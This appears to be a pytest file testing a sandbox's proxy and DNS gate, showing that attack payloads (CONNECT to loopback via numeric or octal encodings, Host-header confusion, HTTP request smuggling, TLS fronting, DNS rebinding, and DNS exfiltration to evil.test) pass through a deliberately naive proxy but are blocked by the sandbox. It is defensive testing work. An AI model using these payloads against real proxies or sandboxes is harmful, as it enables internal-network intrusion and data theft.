"""Attacks on the proxies and the resolver, each shown to succeed against a proxy that carries whatever it is asked, or
with the host's own resolver. Inside, one host is allowed, and the victim is another."""

import contextlib
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator

import dns.message
import dns.rcode
import dns.rrset
import pytest
from tests.looking import free_port, until
from tests.network.conftest import Echo, hello_for, listener
from tests.network.test_by_name import PREAMBLE, PYTHON, UNSHARE, World
from tests.network.test_by_name import world as world

pytestmark = [pytest.mark.needs_userns, pytest.mark.needs_landlock(6)]


class Naive:
    """A proxy such as anybody writes in an hour: it dials what a request names, and then joins the two."""

    def __init__(self) -> None:
        self.http, self.socks = listener(), listener()
        for sock, serve in ((self.http, self.by_http), (self.socks, self.by_socks)):
            threading.Thread(target=self.accept, args=(sock, serve), daemon=True).start()

    def accept(self, sock: socket.socket, serve: Callable[[socket.socket], None]) -> None:
        def one(client: socket.socket) -> None:
            with client, contextlib.suppress(OSError):
                serve(client)

        with contextlib.suppress(OSError):
            while True:
                threading.Thread(target=one, args=(sock.accept()[0],), daemon=True).start()

    def by_http(self, client: socket.socket) -> None:
        head = b""
        while b"\r\n\r\n" not in head:
            head += client.recv(65536)
        lines = head.split(b"\r\n")
        hosts = [line.split(b" ", 1)[1] for line in lines if line.lower().startswith(b"host:")]
        is_tunnel = head.startswith(b"CONNECT ")
        where = lines[0].split(b" ")[1] if is_tunnel else hosts[0 if b"POST" in head else -1]
        host, _, port = where.decode().rpartition(":")
        host = "127.0.0.1" if host == "good.test" else host
        with socket.create_connection((host, int(port)), 5) as target:
            if is_tunnel:
                client.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
            target.sendall(head.partition(b"\r\n\r\n")[2] if is_tunnel else head)
            self.join(client, target)

    def by_socks(self, client: socket.socket) -> None:
        client.recv(3)
        client.sendall(b"\5\0")
        asked = client.recv(300)
        client.sendall(b"\5\0\0\1" + bytes(6))
        with socket.create_connection((socket.inet_ntoa(asked[4:8]), int.from_bytes(asked[8:10], "big")), 5) as target:
            self.join(client, target)

    def join(self, client: socket.socket, target: socket.socket) -> None:
        def carry(source: socket.socket, sink: socket.socket) -> None:
            with contextlib.suppress(OSError):
                while data := source.recv(65536):
                    sink.sendall(data)
                sink.shutdown(socket.SHUT_WR)

        thread = threading.Thread(target=carry, args=(target, client), daemon=True)
        thread.start()
        carry(client, target)
        thread.join()

    def close(self) -> None:
        for sock in (self.http, self.socks):
            sock.shutdown(socket.SHUT_RDWR)
            sock.close()


@pytest.fixture
def naive() -> Iterator[Naive]:
    made = Naive()
    yield made
    made.close()


SAY = """
def say(*parts):
    with socket.create_connection(("127.0.0.1", HTTP), 10) as sock:
        for part in parts:
            sock.sendall(part.replace("VICTIM", str(VICTIM)).replace("ALLOWED", str(ALLOWED)).encode())
        sock.shutdown(socket.SHUT_WR)
        while sock.recv(65536):
            pass
"""
# Each has the victim hear the word "secret", by a proxy at HTTP or SOCKS.
ATTACKS = {
    "CONNECT to a literal": 'say("CONNECT 127.0.0.1:VICTIM HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", "secret")',
    "CONNECT to a number": 'say("CONNECT 2130706433:VICTIM HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", "secret")',
    "CONNECT to an octal number": 'say("CONNECT 0177.1:VICTIM HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", "secret")',
    "CONNECT to the address of anybody": 'say("CONNECT 0.0.0.0:VICTIM HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", "secret")',
    "another host in the Host header": (
        'say("GET http://127.0.0.1:ALLOWED/secret HTTP/1.1\\r\\nHost: 127.0.0.1:VICTIM\\r\\n\\r\\n")'
    ),
    "two Host headers": (
        'say("GET /secret HTTP/1.1\\r\\nHost: 127.0.0.1:ALLOWED\\r\\nHost: 127.0.0.1:VICTIM\\r\\n\\r\\n")'
    ),
    "a literal over SOCKS": """
with socket.create_connection(("127.0.0.1", SOCKS), 10) as sock:
    sock.sendall(b"\\5\\1\\0")
    sock.recv(2, socket.MSG_WAITALL)
    sock.sendall(b"\\5\\1\\0\\1" + socket.inet_aton("127.0.0.1") + VICTIM.to_bytes(2, "big"))
    sock.recv(10, socket.MSG_WAITALL)
    sock.sendall(b"secret")
    sock.shutdown(socket.SHUT_WR)
    while sock.recv(65536):
        pass
""",
}
# Here the victim is the allowed server itself, which is told of another host than it was reached for.
FRONTED = {
    "a smuggled request": """
inner = "GET /secret HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
say("POST http://127.0.0.1:ALLOWED/ HTTP/1.1\\r\\nHost: 127.0.0.1:ALLOWED\\r\\nConnection: content-length\\r\\n"
    f"Content-Length: {len(inner)}\\r\\n\\r\\n{inner}")
""",
    "a request in the body of another": """
inner = "GET /secret HTTP/1.1\\r\\nHost: 127.0.0.1:ALLOWED\\r\\n\\r\\n"
say("POST http://127.0.0.1:ALLOWED/ HTTP/1.1\\r\\nHost: 127.0.0.1:ALLOWED\\r\\nContent-Length: 5\\r\\n"
    "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + inner)
""",
    "TLS for another server": """
with socket.create_connection(("127.0.0.1", HTTP), 10) as sock:
    sock.sendall(b"CONNECT good.test:%d HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % ALLOWED)
    sock.recv(1000)
    sock.sendall(bytes.fromhex(open("hello").read()))
    sock.shutdown(socket.SHUT_WR)
    while sock.recv(65536):
        pass
""",
}


def heard(echo: Echo, word: bytes) -> bool:
    return until(lambda: word in b"".join(echo.heard))


@pytest.mark.parametrize("name", [*ATTACKS, *FRONTED])
def test_a_naive_proxy_carries_it_and_ours_does_not(world: World, naive: Naive, name: str) -> None:
    victim, allowed = Echo(), Echo()
    witness, word = (allowed, b"secret") if name in FRONTED else (victim, b"secret")
    word = b"secret.test" if name == "TLS for another server" else word
    (world.workspace / "hello").write_text(hello_for("secret.test").hex())
    program = f"{PREAMBLE}VICTIM, ALLOWED = {victim.port}, {allowed.port}\nHTTP, SOCKS = PORTS\n{SAY}"
    program += (ATTACKS | FRONTED)[name]
    ports = f"PORTS = {naive.http.getsockname()[1]}, {naive.socks.getsockname()[1]}\n"
    script = ["sh", "-c", 'mount --bind "$0" /etc/hosts && exec "$@"', str(world.hosts), PYTHON, "-I", "-S", "-c"]
    bare = subprocess.run(
        [*UNSHARE, *script, ports + program], cwd=world.workspace, capture_output=True, text=True, timeout=30
    )
    assert (bare.returncode, heard(witness, word)) == (0, True), bare.stderr
    victim.heard.clear()
    allowed.heard.clear()

    words = [PYTHON, "-I", "-S", "-c", f"PORTS = 3128, 1080\n{program}"]
    outcome = world.run(words, f"good.test:{allowed.port}", f"127.0.0.1:{allowed.port}")

    assert outcome["ending"]["type"] == "exited", outcome
    time.sleep(0.05)
    assert word not in b"".join((*victim.heard, *allowed.heard))
    victim.sock.close()
    allowed.sock.close()


class Rebinding:
    """Who answers for names outside: first with one address, then with another. It remembers what was asked."""

    def __init__(self, address: str) -> None:
        self.sock = socket.socket(type=socket.SOCK_DGRAM)
        self.sock.bind((address, 53))
        self.asked: list[str] = []
        self.answers = ["127.0.0.2", "127.0.0.1"]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                data, place = self.sock.recvfrom(4096)
                query = dns.message.from_wire(data)
                question = query.question[0]
                reply = dns.message.make_response(query)
                if question.rdtype == 1:
                    self.asked.append(question.name.to_text())
                    address = self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
                    reply.answer.append(dns.rrset.from_text(question.name, 0, "IN", "A", address))
                self.sock.sendto(reply.to_wire(), place)


@pytest.fixture
def resolver(world: World) -> Iterator[Rebinding]:
    address = f"127.99.{world.base.name.encode()[-1]}.{world.base.name.encode()[-2]}"
    made = Rebinding(address)
    (world.base / "resolv.conf").write_text(f"nameserver {address}\noptions timeout:20 attempts:1\n")
    yield made
    made.sock.close()


def with_resolver(world: World, words: list[str]) -> list[str]:
    mounts = f'mount --bind {world.base}/resolv.conf "$(readlink -f /etc/resolv.conf)" && exec "$@"'
    return ["unshare", "--mount", "sh", "-c", mounts, "sh", *words]


def run_with_resolver(world: World, words: list[str]) -> "subprocess.CompletedProcess[str]":
    return subprocess.run(
        with_resolver(world, words),
        cwd=world.workspace,
        env=world.environ(),
        capture_output=True,
        text=True,
        timeout=50,
    )


REBIND = """
import time
reached = set()
for wait in (0, PAUSE):
    time.sleep(wait)
    try:
        sock = socket.create_connection(("rebind.test", PORT), 30)
        reached.add(sock.getpeername()[0])
    except OSError as error:
        print(error)
print(*sorted(reached))
"""


@pytest.mark.needs_root  # port 53
def test_a_name_that_leads_elsewhere_the_second_time_is_refused(world: World, resolver: Rebinding) -> None:
    victim = socket.create_server(("127.0.0.1", free_port()))
    good = Echo(address="127.0.0.2", port=victim.getsockname()[1])
    program = f"{PREAMBLE}PORT = {good.port}\n{REBIND}"
    bare = run_with_resolver(world, [PYTHON, "-I", "-S", "-c", f"PAUSE = 0\n{program}"])
    assert bare.stdout.splitlines()[-1] == "127.0.0.1 127.0.0.2", bare
    victim.accept()[0].close()
    resolver.answers[:] = ["127.0.0.2", "127.0.0.1"]

    # What the gate resolved serves for two seconds.
    words = world.words(
        [PYTHON, "-I", "-S", "-c", f"PAUSE = 2.2\n{program}"], ("rebind.test", f"127.0.0.2:{good.port}")
    )
    inside = run_with_resolver(world, words)

    assert inside.stdout.splitlines()[-1] == "127.0.0.2", inside
    assert "rebind.test leads to 127.0.0.1, a loopback address" in inside.stderr
    victim.settimeout(0.1)
    with pytest.raises(TimeoutError):
        victim.accept()
    victim.close()
    good.sock.close()


EXFILTRATE = """
for name in ("c2VjcmV0.evil.test", "c2VjcmV0.good.example", "_c2VjcmV0.rebind.test"):
    attempt(lambda: socket.getaddrinfo(name, 80))
"""


@pytest.mark.needs_root  # port 53
def test_no_question_leaves(world: World, resolver: Rebinding) -> None:
    program = f"{PREAMBLE}{EXFILTRATE}"
    run_with_resolver(world, [PYTHON, "-I", "-S", "-c", program])
    assert "c2VjcmV0.evil.test." in resolver.asked
    resolver.asked.clear()

    words = world.words([PYTHON, "-I", "-S", "-c", program], ("rebind.test", "*.good.example"))
    inside = run_with_resolver(world, words)

    # A name that the policy allows is resolved inside too, and outside only when somebody connects to it.
    assert (inside.returncode, resolver.asked) == (0, []), inside
